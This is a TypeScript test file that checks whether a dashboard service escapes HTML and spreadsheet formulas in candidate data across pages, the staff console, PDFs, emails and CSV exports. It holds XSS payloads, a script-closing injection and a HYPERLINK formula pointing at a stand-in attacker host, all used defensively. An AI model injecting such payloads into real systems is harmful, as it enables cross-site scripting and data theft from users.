import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { simpleParser } from 'mailparser';
import { candidateLink } from '../../src/platform/page-links.ts';
import { sitePages } from '../support/cases/site-pages.ts';
import { readPdf } from '../support/reading/read-pdf.ts';
import { startMailServer, type MailServer } from '../support/servers/mail-server.ts';
import { eventually, type TestService } from '../support/service.ts';
import { openLink } from '../support/steps/personal-links.ts';
import { day, reportsOf } from '../support/steps/reports.ts';
import { signInWithPassword } from '../support/steps/second-factors.ts';
import { staffOfEachRole, startStaffService } from '../support/steps/staff.ts';
import type { Visitor } from '../support/steps/visitor.ts';

const picture = '<img src=x onerror=alert(1)>';
const closing = '"></title></script><script>alert(1)</script>';
const formula = '=HYPERLINK("http://evil.example/?x","Click")';

/** HTML that a browser would run, in whatever a page says about a person. A page escapes all of it. */
const running = /<img src=x|<script>alert|onerror=alert\(1\)>/;

describe('HTML and formulas in what people and customers enter', () => {
  let service: TestService;
  let server: MailServer;
  let admin: Visitor;
  let ids: { candidate: string; report: string; invitation: string };
  const reports = reportsOf(() => service);
  before(async () => {
    server = await startMailServer();
    service = await startStaffService({ SMTP_URL: server.url, MAIL_RECIPIENTS: '@example.com' });
    const invitation = await reports.order({
      email: 'stored+consider@example.com',
      first_name: picture,
      last_name: closing,
      custom_id: formula,
      metadata: { note: picture },
    });
    const report = await reports.complete(invitation.id);
    await reports.trigger('report.completed', report.id);
    ids = { candidate: invitation.candidate_id, report: report.id, invitation: invitation.id };
    admin = await signInWithPassword(service, service.accounts[1]!.adminEmail);
  });
  after(async () => {
    await service.stop();
    await server.stop();
  });

  it('are text on every page of the dashboard', async () => {
    const own = [
      `/candidates/${ids.candidate}`,
      `/candidates/${ids.candidate}/remove-data`,
      `/reports/${ids.report}`,
      `/reports/${ids.report}/documents`,
      `/invitations/${ids.invitation}`,
      `/search?q=${encodeURIComponent(picture)}`,
    ];
    const lists = sitePages.dashboard.admin.filter((path) => !path.includes(':'));
    let mentions = 0;
    for (const path of [...own, ...lists]) {
      await admin.go(path);
      assert.ok(admin.status < 500, path);
      assert.ok(!running.test(admin.text), path);
      if (admin.text.includes('&lt;img')) mentions++;
    }
    assert.ok(mentions > 3, String(mentions));
  });

  it('are text in the staff console', async () => {
    const { admin: staff } = await staffOfEachRole(service);
    const account = service.accounts[1]!.id;
    for (const path of [`/search?q=${encodeURIComponent(picture)}`, `/reports/${account}/${ids.report}`]) {
      await staff.go(path);
      assert.equal(staff.status, 200, path);
      assert.ok(!running.test(staff.text), path);
    }
  });

  it('are text on the pages and in the PDF of the candidate', async () => {
    const expires = new Date(Date.now() + 365 * day * 1000);
    const link = candidateLink(service.container, 'reports', ids.report, expires);
    const candidate = await openLink(service, link);
    for (const page of ['', '/report', '/data', '/data/file', '/dispute', '/email', '/story', '/scope']) {
      await candidate.go(`${link}${page}`);
      assert.ok(!running.test(candidate.text), page);
    }
    const answer = await fetch(`${link}/report/pdf`, { headers: { Cookie: candidate.cookieHeader } });
    const { pdf, text } = await readPdf(new Uint8Array(await answer.arrayBuffer()));
    assert.ok(text.includes('<img src=x'), 'as it was typed');
    assert.equal(await pdf.getJSActions(), null);
    for (let number = 1; number <= pdf.numPages; number++) {
      const annotations = (await (await pdf.getPage(number)).getAnnotations()) as { url?: string }[];
      for (const { url = '' } of annotations) assert.doesNotMatch(url, /evil|javascript/);
    }
  });

  it('are text in the HTML of mails', async () => {
    await reports.order({ email: 'header@example.com', first_name: picture, last_name: closing });
    await eventually(() => Promise.resolve(server.received.length >= 3));
    const parsed = await Promise.all(server.received.map((mail) => simpleParser(mail)));
    for (const { subject, html } of parsed) assert.ok(html && !running.test(html), subject);
  });

  it('are no formula in a CSV file', async () => {
    for (const path of sitePages.dashboard.files.filter((file) => file.endsWith('.csv'))) {
      await admin.go(path);
      assert.equal(admin.status, 200, path);
      assert.doesNotMatch(admin.text, /(^|[,\r\n])"?[=@]/, path);
    }
    await admin.go('/candidates.csv');
    assert.ok(admin.text.includes(`"'=HYPERLINK(`), 'with an apostrophe before it');
  });
});
